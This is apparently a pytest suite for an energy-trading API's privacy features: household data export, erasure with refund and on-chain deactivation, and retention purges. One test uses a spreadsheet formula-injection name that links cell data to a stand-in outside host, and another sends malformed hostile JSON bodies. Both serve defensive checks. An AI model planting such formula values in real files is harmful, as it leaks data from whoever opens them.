"""A household's data protection rights through the API (api/privacy.py, api/routes/privacy.py):
its export holds everything about it and nothing of another household; its erasure removes its
personal data, stops its token, refunds its balance through the operator, deactivates it on
chain once (also across an interruption) and leaves an audit that passes; the retention purge
of signed readings leaves an audit that passes and says where its window starts."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from eth_account import Account
from sqlmodel import Session, col, func, select

from api.intents import FaultHook, InjectedFault
from api.models import (
    ApiConsent,
    ApiHousehold,
    ApiIntent,
    ApiOrder,
    HouseholdErasure,
    IntakeReading,
    SignedReadingPurge,
)
from api.privacy import (
    COLUMNS,
    confirmation,
    erased_token_hash,
    months_between,
    purge,
    retention_before_slot,
    slot_times,
)
from api.settings import Settings
from ledger import localtime
from ledger.audit.inputs import EVIDENCE_FROM_KEY
from ledger.mirror.models import ChainEvent, HouseholdRecord, IndexerState, SignedReadingRecord
from tests.api.conftest import OP, Api, Member, _settings, past_slot

TZ = "Europe/Paris"


def _trade(api: Api, slots: int = 3, back: int = 8) -> tuple[Member, Member, list[int]]:
    """A seller and a buyer (with names), metered and settled for ``slots`` slots."""
    seller = api.register(prosumer=True, name="Amélie Vendeuse")
    buyer = api.register(prosumer=False, topup_ueur=3_000_000, name="Bruno Acheteur")
    first = past_slot(back)
    done = list(range(first, first + slots))
    for slot in done:
        batch = [api.reading(seller, slot, export_Wh=600), api.reading(buyer, slot, import_Wh=500)]
        r = api.client.post("/readings", json={"readings": batch})
        assert r.status_code == 202, r.text
    api.flush()
    for slot in done:
        r = api.client.post(f"/market/slots/{slot}/settle", headers=OP)
        assert r.status_code == 200, r.text
    return seller, buyer, done


def _audit_ok(api: Api) -> dict[str, Any]:
    r = api.client.get("/audit/report", headers=OP)
    assert r.status_code == 200, r.text
    body: dict[str, Any] = r.json()
    assert body["ok"] is True, body["findings"]
    return body


def _erase(api: Api, member: Member, headers: dict[str, str] | None = None, **extra: Any) -> Any:
    return api.client.post(
        f"/households/{member.id}/erasure",
        json={"confirm": confirmation(member.id), **extra},
        headers=member.auth if headers is None else headers,
    )


def _balance(api: Api, account: str) -> int:
    return api.services.client.balance_of(account)


# ───────────────────────────── Pure parts ─────────────────────────────


def test_a_slot_is_given_in_utc_and_in_the_neighbourhoods_local_time() -> None:
    # 2026-07-01 10:00 UTC is noon in Paris (summer time).
    slot = 1_782_900_000 // 900
    assert slot_times(slot, TZ) == {
        "slot": slot,
        "slot_start_utc": "2026-07-01T10:00:00+00:00",
        "slot_start_local": "2026-07-01T12:00:00+02:00",
    }


def test_the_retention_counts_whole_days_back_from_now() -> None:
    now = 1_782_900_000
    assert retention_before_slot(now, 1) == (now - 86_400) // 900
    assert retention_before_slot(now + 899, 30) == (now + 899 - 30 * 86_400) // 900


def test_the_months_of_a_history_follow_the_local_calendar() -> None:
    # 31 Dec 2026 23:30 UTC is already January in Paris.
    last = 1_798_759_800 // 900
    first, _ = localtime.month_span(2026, 11, TZ)
    assert months_between(first, last, TZ) == [(2026, 11), (2026, 12), (2027, 1)]


def test_the_erasure_confirmation_names_the_household() -> None:
    assert confirmation(7) == "erase household 7"


# ───────────────────────────── Export ─────────────────────────────


def test_the_export_holds_everything_of_the_household_and_nothing_of_another(
    api: Api,
) -> None:
    seller, buyer, slots = _trade(api)
    r = api.client.get(f"/households/{seller.id}/export", headers=seller.auth)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/json")
    assert f'filename="voisin-household-{seller.id}.json"' in r.headers["content-disposition"]
    body = r.json()
    assert body["format"] == "voisin-household-export/1" and body["household"] == seller.id
    assert body["timezone"] == api.services.settings.timezone
    data = body["data"]
    assert list(data) == list(COLUMNS)
    for kind, rows in data.items():
        for row in rows:
            assert list(row) == list(COLUMNS[kind]), kind
    (me,) = data["household"]
    assert (me["id"], me["name"], me["account"], me["meter"]) == (
        seller.id,
        "Amélie Vendeuse",
        seller.account,
        seller.meter.address,
    )
    assert me["active"] is True and me["erased_at_utc"] is None
    assert me["registered_at_utc"].endswith("+00:00")
    assert {(a["kind"], a["address"]) for a in data["addresses"]} == {
        ("account", seller.account),
        ("meter", seller.meter.address),
    }
    tz = api.services.settings.timezone
    signed = data["signed_readings"]
    assert [s["slot"] for s in signed] == slots
    assert all(s["r"].startswith("0x") and s["v"] in (27, 28) for s in signed)
    assert signed[0]["slot_start_local"] == localtime.slot_iso(slots[0], tz)
    assert [r["status"] for r in data["received_readings"]] == ["committed"] * 3
    assert [(c["slot"], c["export_delta_Wh"]) for c in data["committed_readings"]] == [
        (s, 600) for s in slots
    ]
    assert {o["side"] for o in data["orders"]} == {"offer", "bid"}
    assert data["chain_orders"] and all(o["order_id"] for o in data["chain_orders"])
    trades = data["trades"]
    assert trades and {t["direction"] for t in trades} == {"sold"}
    assert {t["counterpart_household"] for t in trades} == {buyer.id}
    assert sum(t["energy_Wh"] for t in trades) == 1_500
    (month, *more) = data["statements"]
    assert sum(m["sold_Wh"] for m in [month, *more]) == 1_500
    assert sum(m["export_Wh"] for m in [month, *more]) == 1_800
    assert data["topups"] == [] and data["consents"] == [] and data["erasure"] == []

    # Nothing of the other household: its name, addresses, token, signatures.
    text = r.text
    for secret in (
        "Bruno Acheteur",
        buyer.account,
        buyer.meter.address,
        buyer.token,
        seller.token,
        *(row["r"] for row in _signed_of(api, buyer.meter.address)),
    ):
        assert secret not in text and secret.lower() not in text.lower()

    # The buyer's own export has its top-up, its purchases and its consent.
    with Session(api.services.engine) as session, session.begin():
        session.add(ApiConsent(key_id=4, household=buyer.id))
    theirs = api.client.get(f"/households/{buyer.id}/export", headers=buyer.auth).json()["data"]
    assert [t["amount_ueur"] for t in theirs["topups"]] == [3_000_000]
    assert {t["direction"] for t in theirs["trades"]} == {"bought"}
    assert all(t["amount_ueur"] < 0 and t["fee_ueur"] > 0 for t in theirs["trades"])
    assert [(c["key_id"], c["withdrawn_at_utc"]) for c in theirs["consents"]] == [(4, None)]
    assert "Amélie Vendeuse" not in json.dumps(theirs)


def _signed_of(api: Api, meter: str) -> list[dict[str, Any]]:
    with Session(api.services.engine) as session:
        rows = session.exec(
            select(SignedReadingRecord).where(SignedReadingRecord.meter == meter)
        ).all()
    return [{"r": row.r} for row in rows]


def test_the_csv_export_is_a_zip_of_one_csv_per_kind_matching_the_json(
    embedded_api: Api,
) -> None:
    api = embedded_api
    seller, buyer, _ = _trade(api)
    r = api.client.get(
        f"/households/{seller.id}/export", params={"format": "csv"}, headers=seller.auth
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(r.content))
    names = archive.namelist()
    folder = f"voisin-{seller.id}"
    assert names == [f"{folder}/README.txt", *(f"{folder}/{kind}.csv" for kind in COLUMNS)]
    assert "Europe/Paris" in archive.read(f"{folder}/README.txt").decode()
    data = api.client.get(f"/households/{seller.id}/export", headers=seller.auth).json()["data"]
    for kind, columns in COLUMNS.items():
        rows = list(csv.reader(io.StringIO(archive.read(f"{folder}/{kind}.csv").decode())))
        assert tuple(rows[0]) == columns, kind
        assert len(rows) - 1 == len(data[kind]), kind
    trades = list(csv.DictReader(io.StringIO(archive.read(f"{folder}/trades.csv").decode())))
    assert [int(t["energy_Wh"]) for t in trades] == [t["energy_Wh"] for t in data["trades"]]
    assert trades[0]["slot_start_local"] == data["trades"][0]["slot_start_local"]
    assert buyer.account not in r.content.decode("latin-1")


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
    embedded_api: Api,
) -> None:
    api = embedded_api
    name = '=HYPERLINK("https://elsewhere.example/?x="&A1,"Click")'
    member = api.register(prosumer=False, name=name)
    r = api.client.get(
        f"/households/{member.id}/export", params={"format": "csv"}, headers=member.auth
    )
    archive = zipfile.ZipFile(io.BytesIO(r.content))
    text = archive.read(f"voisin-{member.id}/household.csv").decode()
    assert next(csv.DictReader(io.StringIO(text)))["name"] == "'" + name
    # The JSON export gives the name as it is.
    data = api.client.get(f"/households/{member.id}/export", headers=member.auth).json()["data"]
    assert data["household"][0]["name"] == name


def test_a_long_history_is_exported_in_pages_with_every_row(
    embedded_api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    from api import privacy

    api = embedded_api
    monkeypatch.setattr(privacy, "PAGE", 2)
    monkeypatch.setattr(privacy, "CHUNK_BYTES", 64)
    seller, _, slots = _trade(api, slots=5, back=12)
    with api.client.stream("GET", f"/households/{seller.id}/export", headers=seller.auth) as answer:
        chunks = list(answer.iter_bytes())
    assert len(chunks) > 1
    data = json.loads(b"".join(chunks))["data"]
    assert [s["slot"] for s in data["signed_readings"]] == slots
    assert [c["slot"] for c in data["committed_readings"]] == slots


def test_the_export_is_the_households_own_or_the_operators(api: Api) -> None:
    one = api.register(prosumer=True, name="One")
    two = api.register(prosumer=False, name="Two")
    c = api.client
    assert c.get(f"/households/{one.id}/export", headers=OP).status_code == 200
    r = c.get(f"/households/{one.id}/export", headers=two.auth)
    assert r.status_code == 403 and r.json()["code"] == "forbidden"
    assert c.get(f"/households/{one.id}/export").status_code == 401
    r = c.get("/households/999/export", headers=OP)
    assert r.status_code == 404 and r.json()["code"] == "unknown_household"
    assert c.get("/households/999/export", headers=one.auth).status_code == 403


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/households/1/export", {"format": "xml"}),
        ("/households/1/export", {"format": ""}),
        ("/households/1/export", {"fmt": "json"}),
        ("/households/0/export", {}),
        ("/households/-1/export", {}),
        ("/households/x/export", {}),
        ("/households/99999999999/export", {}),
    ],
)
def test_bad_export_requests_are_refused_with_422(
    embedded_api: Api, path: str, params: dict[str, str]
) -> None:
    embedded_api.register(prosumer=True)
    r = embedded_api.client.get(path, params=params, headers=OP)
    assert r.status_code == 422, r.text
    assert r.json()["code"] in ("invalid_input", "unknown_parameter")


# ───────────────────────────── Erasure ─────────────────────────────


def test_erasure_removes_personal_data_refunds_the_balance_and_the_audit_still_passes(
    api: Api,
) -> None:
    seller, buyer, _ = _trade(api)
    earned = _balance(api, seller.account)
    assert earned > 0
    operator = api.services.chain.operator.address
    before = _balance(api, operator)
    with Session(api.services.engine) as session, session.begin():
        session.add(ApiConsent(key_id=9, household=seller.id))

    r = _erase(api, seller)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["household"] == seller.id and body["requested_by"] == "household"
    assert body["refund_ueur"] == earned and body["deactivated_tx"].startswith("0x")
    assert body["kept"]

    # The money went to the operator, who pays it back; the account is empty.
    assert _balance(api, seller.account) == 0
    assert _balance(api, operator) == before + earned
    # Deactivated on chain and in the mirror.
    assert api.services.client.household(seller.id).active is False
    engine = api.services.engine
    with Session(engine) as session:
        record = session.get(ApiHousehold, seller.id)
        mirrored = session.get(HouseholdRecord, seller.id)
        erasure = session.get(HouseholdErasure, seller.id)
        intents = session.exec(select(ApiIntent).where(ApiIntent.household == seller.id)).all()
        orders = session.exec(select(ApiOrder).where(ApiOrder.household == seller.id)).all()
        consent = session.exec(select(ApiConsent).where(ApiConsent.household == seller.id)).one()
        deactivations = session.exec(
            select(func.count()).where(ChainEvent.name == "HouseholdDeactivated")
        ).one()
    assert record is not None and mirrored is not None and erasure is not None
    assert record.name is None and record.key_json == ""
    assert record.token_hash == f"erased:{seller.id}"
    # What stays is pseudonymous: the id, the account and the meter.
    assert (record.account, record.meter) == (seller.account, seller.meter.address)
    assert mirrored.active is False
    assert erasure.refund_ueur == earned and erasure.requested_by == "household"
    for intent in intents:
        assert "Amélie" not in intent.payload + (intent.response or "")
        assert '"key_json":null' in intent.payload or "key_json" not in intent.payload
    assert {o.status for o in orders} == {"cancelled"}
    assert consent.withdrawn_at is not None
    assert deactivations == 1

    # The token stops at once, on the API and the page.
    assert (
        api.client.get(f"/households/{seller.id}/balance", headers=seller.auth).status_code == 401
    )
    assert _erase(api, seller).status_code == 401
    # The other household carries on; the operator still sees the erased one's records.
    assert api.client.get(f"/households/{buyer.id}/balance", headers=buyer.auth).status_code == 200
    export = api.client.get(f"/households/{seller.id}/export", headers=OP).json()["data"]
    assert export["household"][0]["name"] is None
    assert export["erasure"][0]["refund_ueur"] == earned
    assert export["signed_readings"] and export["trades"]

    _audit_ok(api)


def test_a_repeated_erasure_answers_the_first_and_does_nothing_more(api: Api) -> None:
    member = api.register(prosumer=False, name="Twice")
    first = _erase(api, member, headers=OP)
    assert first.status_code == 200, first.text
    assert first.json()["requested_by"] == "operator" and first.json()["refund_ueur"] == 0
    head = api.services.chain.w3.eth.block_number
    again = _erase(api, member, headers=OP)
    keyed = _erase(api, member, headers={**OP, "Idempotency-Key": "erase-twice-1"})
    assert again.status_code == keyed.status_code == 200
    assert again.json() == keyed.json() == first.json()
    assert api.services.chain.w3.eth.block_number == head
    with Session(api.services.engine) as session:
        assert session.exec(select(func.count()).select_from(HouseholdErasure)).one() == 1
    _audit_ok(api)


def test_erasure_is_refused_for_another_household_a_wrong_confirmation_or_an_unknown_id(
    api: Api,
) -> None:
    one = api.register(prosumer=True, name="Keeps")
    two = api.register(prosumer=False, name="Other")
    c = api.client
    before = api.snapshot()
    r = c.post(
        f"/households/{one.id}/erasure", json={"confirm": confirmation(one.id)}, headers=two.auth
    )
    assert r.status_code == 403 and r.json()["code"] == "forbidden"
    r = c.post(f"/households/{one.id}/erasure", json={"confirm": confirmation(one.id)})
    assert r.status_code == 401
    for wrong in ("erase household", confirmation(two.id), "ERASE HOUSEHOLD 1", "yes"):
        r = c.post(f"/households/{one.id}/erasure", json={"confirm": wrong}, headers=one.auth)
        assert r.status_code == 422, wrong
        assert r.json()["code"] == "confirmation_mismatch"
        assert repr(confirmation(one.id)) in r.json()["message"]
    r = c.post("/households/999/erasure", json={"confirm": confirmation(999)}, headers=OP)
    assert r.status_code == 404 and r.json()["code"] == "unknown_household"
    assert api.snapshot() == before
    with Session(api.services.engine) as session:
        record = session.get(ApiHousehold, one.id)
        assert record is not None and record.name == "Keeps"
        assert session.exec(select(func.count()).select_from(HouseholdErasure)).one() == 0
    assert c.get(f"/households/{one.id}/balance", headers=one.auth).status_code == 200


@pytest.mark.parametrize(
    "body",
    [
        {},
        {"confirm": 7},
        {"confirm": None},
        {"confirm": "x" * 101},
        {"confirm": "erase household 1", "extra": True},
        [],
        "erase household 1",
    ],
)
def test_bad_erasure_bodies_are_refused_with_422_and_change_nothing(
    embedded_api: Api, body: Any
) -> None:
    member = embedded_api.register(prosumer=True, name="Body")
    before = embedded_api.snapshot()
    r = embedded_api.client.post(f"/households/{member.id}/erasure", json=body, headers=OP)
    assert r.status_code == 422, r.text
    assert r.json()["code"] == "invalid_input"
    assert embedded_api.snapshot() == before


def test_erasure_waits_for_readings_not_on_chain_yet(embedded_api: Api) -> None:
    api = embedded_api
    member = api.register(prosumer=True, name="Waiting")
    reading = api.reading(member, past_slot(3), export_Wh=100)
    assert api.client.post("/readings", json={"readings": [reading]}).status_code == 202
    r = _erase(api, member)
    assert r.status_code == 409 and r.json()["code"] == "meter_readings_pending"
    assert api.services.client.household(member.id).active is True
    api.flush()
    assert _erase(api, member).status_code == 200
    _audit_ok(api)


def test_an_erasure_interrupted_after_any_step_converges_once(embedded_api: Api) -> None:
    api = embedded_api
    seller, _, _ = _trade(api)
    earned = _balance(api, seller.account)
    operator = api.services.chain.operator.address
    before = _balance(api, operator)
    for point in ("recorded", "sending", "sent", "refunded"):
        api.services.intents.fault = FaultHook(f"erase.{point}")
        with pytest.raises(InjectedFault):
            _erase(api, seller, headers={**OP, "Idempotency-Key": "erase-interrupted"})
    # The last interruption was after the refund: the retry finishes it without sending again.
    head = api.services.chain.w3.eth.block_number
    r = _erase(api, seller, headers={**OP, "Idempotency-Key": "erase-interrupted"})
    assert r.status_code == 200, r.text
    assert r.json()["refund_ueur"] == earned
    assert api.services.chain.w3.eth.block_number == head
    assert _balance(api, operator) == before + earned
    with Session(api.services.engine) as session:
        events = session.exec(
            select(func.count()).where(ChainEvent.name == "HouseholdDeactivated")
        ).one()
    assert events == 1
    assert (
        api.client.get(f"/households/{seller.id}/balance", headers=seller.auth).status_code == 401
    )
    _audit_ok(api)


def test_an_erasure_left_unfinished_is_finished_by_the_next_start(
    tmp_path: Any,
) -> None:
    from fastapi.testclient import TestClient

    from api.app import create_app

    settings = _settings(tmp_path)
    app = create_app(settings, background=False)
    with TestClient(app) as client:
        first = Api(client, app.state.services)
        member = first.register(prosumer=False, name="Crashed", topup_ueur=1_000_000)
        first.services.intents.fault = FaultHook("erase.sent")
        with pytest.raises(InjectedFault):
            _erase(first, member)
    app = create_app(settings, background=False)
    with TestClient(app) as client:
        again = Api(client, app.state.services)
        assert again.services.intents.unfinished() == 0
        with Session(again.services.engine) as session:
            erasure = session.get(HouseholdErasure, member.id)
            record = session.get(ApiHousehold, member.id)
        assert erasure is not None and erasure.refund_ueur == 1_000_000
        assert record is not None and record.name is None
        assert (
            client.get(f"/households/{member.id}/balance", headers=member.auth).status_code == 401
        )
        _audit_ok(again)


# ───────────────────────────── Retention ─────────────────────────────


def test_a_retention_purge_keeps_the_audit_passing_and_the_report_states_its_window(
    api: Api,
) -> None:
    seller, buyer, slots = _trade(api, slots=4, back=12)
    engine = api.services.engine
    # As if two days later, with a one-day retention: the readings of the first two slots
    # are past it (their slots are sealed), the others not yet.
    now = (slots[2] * 900) + 86_400
    done = purge(engine, 1, now)
    assert done.before_slot == slots[2] == done.evidence_from_slot
    assert (done.signed_readings, done.intake_readings) == (4, 4)
    with Session(engine) as session:
        kept = sorted({r.slot for r in session.exec(select(SignedReadingRecord)).all()})
        intake = sorted({r.slot for r in session.exec(select(IntakeReading)).all()})
        state = session.get(IndexerState, EVIDENCE_FROM_KEY)
        logged = session.exec(select(SignedReadingPurge)).one()
    assert kept == intake == slots[2:]
    assert state is not None and state.value == str(slots[2])
    assert (logged.retention_days, logged.before_slot, logged.signed_readings) == (1, slots[2], 4)

    body = _audit_ok(api)
    assert body["summary"]["evidence_from_slot"] == slots[2]
    assert f"kept from slot {slots[2]}" in body["summary"]["provenance_window"]
    assert body["summary"]["readings"] == 8

    # The window only moves forward; a missing reading within it is still a finding.
    assert purge(engine, 30, now).evidence_from_slot == slots[2]
    with Session(engine) as session, session.begin():
        gone = session.exec(
            select(SignedReadingRecord).where(SignedReadingRecord.slot == slots[3])
        ).first()
        assert gone is not None
        session.delete(gone)
    body = api.client.get("/audit/report", headers=OP).json()
    assert body["ok"] is False
    assert {(f["check"], f["slot"]) for f in body["findings"]} == {("provenance", slots[3])}
    assert seller.id and buyer.id


def test_a_purge_never_removes_readings_of_a_slot_not_sealed(embedded_api: Api) -> None:
    api = embedded_api
    member = api.register(prosumer=True)
    slot = past_slot(12)
    assert (
        api.client.post("/readings", json={"readings": [api.reading(member, slot, 0, 5)]})
    ).status_code == 202
    api.flush()
    done = purge(api.services.engine, 1, slot * 900 + 10 * 86_400)
    assert (done.signed_readings, done.intake_readings) == (0, 0)
    body = _audit_ok(api)
    assert body["summary"]["evidence_from_slot"] == done.before_slot


def test_the_retention_setting_is_unset_by_default_and_bounded(tmp_path: Any) -> None:
    assert _settings(tmp_path).signed_reading_retention_days is None
    assert _settings(tmp_path, signed_reading_retention_days=90).signed_reading_retention_days == 90
    for bad in (0, -1, 36_501):
        with pytest.raises(ValueError, match="signed_reading_retention_days"):
            Settings(data_dir=tmp_path, signed_reading_retention_days=bad)


def test_voisin_purge_readings_applies_the_retention_setting(
    embedded_api: Api, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from api.cli import main

    api = embedded_api
    _, _, slots = _trade(api, slots=2, back=2 * 96 + 8)  # two days ago
    data_dir = str(api.services.settings.data_dir)
    monkeypatch.delenv("VOISIN_SIGNED_READING_RETENTION_DAYS", raising=False)
    assert main(["purge-readings", "--data-dir", data_dir]) == 0
    assert "kept for good; nothing to purge" in capsys.readouterr().out
    with Session(api.services.engine) as session:
        assert session.exec(select(func.count()).select_from(SignedReadingRecord)).one() == 4

    monkeypatch.setenv("VOISIN_SIGNED_READING_RETENTION_DAYS", "1")
    assert main(["purge-readings", "--data-dir", data_dir]) == 0
    out = capsys.readouterr().out
    assert "deleted 4 signed reading(s) and 4 intake reading(s)" in out
    with Session(api.services.engine) as session:
        assert session.exec(select(func.count()).select_from(SignedReadingRecord)).one() == 0
    body = _audit_ok(api)
    assert body["summary"]["evidence_from_slot"] > slots[-1]

    assert main(["purge-readings", "--data-dir", data_dir + "/nowhere"]) == 2
    assert "no database" in capsys.readouterr().err
    monkeypatch.setenv("VOISIN_SIGNED_READING_RETENTION_DAYS", "0")
    assert main(["purge-readings", "--data-dir", data_dir]) == 2
    assert "signed_reading_retention_days" in capsys.readouterr().err


def test_a_registration_retried_after_the_erasure_answers_without_the_name(
    embedded_api: Api,
) -> None:
    from eth_account import Account

    api = embedded_api
    body = {"meter": Account.create().address, "prosumer": False, "name": "Gone Soon"}
    key = {**OP, "Idempotency-Key": "register-then-erase"}
    first = api.client.post("/households", json=body, headers=key)
    assert first.status_code == 201, first.text
    household, token = first.json()["id"], first.json()["token"]
    r = api.client.post(
        f"/households/{household}/erasure",
        json={"confirm": confirmation(household)},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert r.status_code == 200, r.text
    again = api.client.post("/households", json=body, headers=key)
    assert again.status_code == 201, again.text
    assert again.json()["id"] == household and again.json()["name"] is None
    auth = {"Authorization": f"Bearer {again.json()['token']}"}
    assert api.client.get(f"/households/{household}/balance", headers=auth).status_code == 401
    with Session(api.services.engine) as session:
        intents = session.exec(select(ApiIntent).where(ApiIntent.household == household)).all()
    assert intents and all("Gone Soon" not in i.payload + (i.response or "") for i in intents)


def test_exports_beyond_the_households_limit_get_429_and_the_operator_is_not_limited(
    tmp_path: Any,
) -> None:
    from fastapi.testclient import TestClient

    from api.app import create_app

    app = create_app(_settings(tmp_path, token_burst=2, token_rate_per_s=0.01), background=False)
    with TestClient(app) as client:
        api = Api(client, app.state.services)
        member = api.register(prosumer=False, name="Eager")
        path = f"/households/{member.id}/export"
        assert [client.get(path, headers=member.auth).status_code for _ in range(2)] == [200, 200]
        r = client.get(path, headers=member.auth)
        assert r.status_code == 429 and int(r.headers["Retry-After"]) >= 1
        assert r.json()["code"] == "rate_limited"
        assert all(client.get(path, headers=OP).status_code == 200 for _ in range(3))


def test_hostile_erasure_bodies_are_refused_before_parsing_and_change_nothing(
    embedded_api: Api,
) -> None:
    api = embedded_api
    member = api.register(prosumer=True, name="Hostile")
    path = f"/households/{member.id}/erasure"
    json_type = {"Content-Type": "application/json"}
    before = api.snapshot()
    twice = f'{{"confirm": "yes", "confirm": "{confirmation(member.id)}"}}'.encode()
    deep = b'{"confirm": ' + b"[" * 200 + b"]" * 200 + b"}"
    for headers in ({}, OP, member.auth):
        r = api.client.post(path, content=twice, headers={**headers, **json_type})
        assert (r.status_code, r.json()["code"]) == (422, "duplicate_key")
        r = api.client.post(path, content=deep, headers={**headers, **json_type})
        assert (r.status_code, r.json()["code"]) == (422, "json_too_deep")
    r = api.client.post(path, content=b"x" * 1_000_001, headers={**OP, **json_type})
    assert r.status_code == 413
    assert api.snapshot() == before
    assert api.client.get(f"/households/{member.id}/balance", headers=member.auth).is_success


def test_an_erasure_the_background_pass_finishes_stops_the_token_it_had_cached(
    embedded_api: Api,
) -> None:
    api = embedded_api
    member = api.register(prosumer=True, name="Later")
    api.services.intents.fault = FaultHook("erase.sent")
    with pytest.raises(InjectedFault):
        _erase(api, member)
    # Deactivated on chain, not yet erased: the token still opens its data, and is cached.
    balance = f"/households/{member.id}/balance"
    assert api.client.get(balance, headers=member.auth).status_code == 200
    assert api.services.intents.reconcile() == 1
    assert api.client.get(balance, headers=member.auth).status_code == 401
    with Session(api.services.engine) as session:
        assert session.get(HouseholdErasure, member.id) is not None


def test_an_erased_household_gets_no_new_key_token_or_meter(embedded_api: Api) -> None:
    api = embedded_api
    member = api.register(prosumer=True, name="Gone")
    assert _erase(api, member).status_code == 200
    head = api.services.chain.w3.eth.block_number
    with Session(api.services.engine) as session:
        before = session.get(ApiHousehold, member.id)
        assert before is not None
        kept = (before.token_hash, before.key_json, before.meter)
    for path, body in (
        ("rotate-key", None),
        ("token", None),
        ("meter", {"meter": Account.create().address}),
    ):
        r = api.client.post(f"/households/{member.id}/{path}", json=body, headers=OP)
        assert r.status_code == 409, (path, r.text)
        assert r.json()["code"] == "household_erased", r.text
    with Session(api.services.engine) as session:
        after = session.get(ApiHousehold, member.id)
        assert after is not None
        assert (after.token_hash, after.key_json, after.meter) == kept
    assert api.services.chain.w3.eth.block_number == head


def test_a_key_rotation_checked_before_an_erasure_finished_is_refused_after_it(
    embedded_api: Api,
) -> None:
    """A key rotation passes its check, then the household's erasure finishes, then the
    rotation is carried out: it is refused (household_erased), and the erased household gets
    no new key, on chain or in the database."""
    api = embedded_api
    member = api.register(prosumer=False)
    api.flush()
    vault = api.services.vault
    new_account = vault.new_account
    erased: list[int] = []

    def erasure_lands_meanwhile() -> Any:
        if not erased:
            r = api.client.post(
                f"/households/{member.id}/erasure",
                json={"confirm": f"erase household {member.id}"},
                headers=OP,
            )
            assert r.status_code == 200, r.text
            erased.append(member.id)
        return new_account()

    vault.new_account = erasure_lands_meanwhile  # type: ignore[method-assign]
    try:
        r = api.client.post(f"/households/{member.id}/rotate-key", headers=OP)
    finally:
        vault.new_account = new_account  # type: ignore[method-assign]
    assert r.status_code == 409 and r.json()["code"] == "household_erased", r.text
    with Session(api.services.engine) as session:
        row = session.get(ApiHousehold, member.id)
        assert row is not None and not row.key_json
    assert api.services.client.household(member.id).account.lower() == member.account.lower()


def test_a_token_rotation_checked_before_an_erasure_finished_gives_no_token_back(
    embedded_api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    api = embedded_api
    member = api.register(prosumer=False)
    intents = api.services.intents
    new_salt = intents.new_salt

    def salt_while_erased() -> str:
        api.erase(member)  # finishing while this request is checked
        return new_salt()

    monkeypatch.setattr(intents, "new_salt", salt_while_erased)
    r = api.client.post(f"/households/{member.id}/token", headers=OP)
    assert r.status_code == 409 and r.json()["code"] == "household_erased", r.text
    with Session(api.services.engine) as session:
        row = session.get(ApiHousehold, member.id)
        assert row is not None and row.token_hash == erased_token_hash(member.id)


def test_an_order_checked_before_an_erasure_finished_is_refused_and_not_left_queued(
    embedded_api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    api = embedded_api
    member = api.register(prosumer=False)
    services = api.services
    tariffs = services.tariffs

    def tariffs_while_erased() -> Any:
        api.erase(member)  # finishing while this request is checked
        return tariffs()

    monkeypatch.setattr(services, "tariffs", tariffs_while_erased)
    bid = {"price_limit_ueur_per_kWh": 100_000, "first_slot": past_slot(1)}
    r = api.client.post("/bids", json=bid, headers=member.auth)
    assert r.status_code == 409 and r.json()["code"] == "household_erased", r.text
    with Session(services.engine) as session:
        live = session.exec(
            select(ApiOrder).where(
                ApiOrder.household == member.id, col(ApiOrder.status).in_(["queued", "open"])
            )
        ).all()
    assert live == []


def test_a_consent_checked_before_an_erasure_finished_is_refused(
    embedded_api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    from api.routes import consents
    from tests.api.test_public_api import new_key, with_key

    api = embedded_api
    member = api.register(prosumer=False)
    key = new_key(api, scopes=["household:read"])
    itself = consents._itself

    def itself_then_erased(caller: Any, household: int) -> None:
        itself(caller, household)
        api.erase(member)  # finishing while this request is checked

    monkeypatch.setattr(consents, "_itself", itself_then_erased)
    r = api.client.post(f"/v1/households/{member.id}/consents/{key['id']}", headers=member.auth)
    assert r.status_code == 409 and r.json()["code"] == "household_erased", r.text
    read = api.client.get(f"/v1/households/{member.id}/balance", headers=with_key(key))
    assert read.status_code == 403, read.text


def test_an_erasure_refunds_an_account_that_spent_its_gas_money(embedded_api: Api) -> None:
    """The household's account has money left but no ether to send it with: the operator
    gives it gas money, the refund goes, and the erasure finishes."""
    api = embedded_api
    member = api.register(prosumer=False, topup_ueur=70_000)
    api.flush()
    api.spend_gas_money(member)
    r = api.client.post(
        f"/households/{member.id}/erasure",
        json={"confirm": f"erase household {member.id}"},
        headers=member.auth,
    )
    assert r.status_code == 200, r.text
    assert r.json()["refund_ueur"] == 70_000
    assert api.services.client.balance_of(member.account) == 0
    assert api.services.intents.unfinished() == 0


def test_an_erasure_the_background_pass_finishes_stops_the_token_this_process_cached(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An erasure stopped after its deactivation was sent is finished by the next process's
    background pass (the chain was down as that process started); the household's token,
    which that process had cached meanwhile, stops at once."""
    from api.services import Services
    from tests.api.conftest import OPERATOR_TOKEN
    from tests.api.intent_cases import opened

    settings = Settings(
        data_dir=tmp_path / "data",
        operator_token=OPERATOR_TOKEN,
        auto_settle=False,
        chain_process=False,
    )
    with opened(settings) as api:
        member = api.register(prosumer=False)
        api.services.intents.fault = FaultHook("erase.sent")
        r = api.client.post(
            f"/v1/households/{member.id}/erasure",
            json={"confirm": f"erase household {member.id}"},
            headers=member.auth,
        )
        assert r.status_code == 500  # the injected fault, after the deactivation was sent
    monkeypatch.setattr(Services, "_settle_intents", lambda self: None)  # the chain was down
    with opened(settings) as api:
        assert api.services.intents.unfinished() == 1
        balance = f"/v1/households/{member.id}/balance"
        assert api.client.get(balance, headers=member.auth).status_code == 200  # cached
        assert api.services.intents.reconcile() == 1
        for path in (balance, f"/v1/households/{member.id}/export"):
            assert api.client.get(path, headers=member.auth).status_code == 401, path
